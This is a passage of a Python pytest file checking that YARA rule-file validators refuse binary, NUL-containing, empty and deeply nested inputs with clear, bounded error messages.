    "data", [b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\xff\xff", bytes(range(256)), b"rule \xff {}"]
)
def test_it_refuses_a_rule_file_that_is_not_utf8_text(data):
    message = message_of(validate_yara_rules, data)
    assert message.startswith("The rule file is not UTF-8 text (invalid byte at offset ")
    assert message.endswith("expected YARA rules as UTF-8 text.")


def test_it_refuses_a_rule_file_with_nul_bytes():
    # PostgreSQL text cannot hold NUL: the file is refused before it reaches the compiler.
    message = message_of(validate_yara_rules, b"rule a { condition: true }\x00\x00")
    assert message == (
        "The rule file holds NUL bytes, so it is binary or UTF-16: "
        "expected YARA rules as UTF-8 text."
    )


@pytest.mark.parametrize("data", [b"", b"  \n\t\n"])
def test_it_refuses_an_empty_rule_file(data):
    assert message_of(validate_yara_rules, data) == "The rule file is empty: expected YARA rules."


# Hostile input everywhere


@pytest.mark.parametrize("value", HOSTILE_STRINGS)
@pytest.mark.parametrize("validator", ALL_VALIDATORS)
def test_it_answers_hostile_input_with_a_validation_error_only(validator, value):
    try:
        validator(value)
    except ValidationError as error:
        for message in error.messages:
            message.encode("utf-8")
            assert "\x00" not in message
            assert len(message) < 1000


@pytest.mark.parametrize(
    "data", [b"\x00" * 1000, b"rule " + b"{" * 100_000, b"rule a { condition: " + b"(" * 50_000]
)
def test_it_answers_hostile_rule_files_with_a_validation_error_only(data):
    with pytest.raises(ValidationError):
        validate_yara_rules(data)
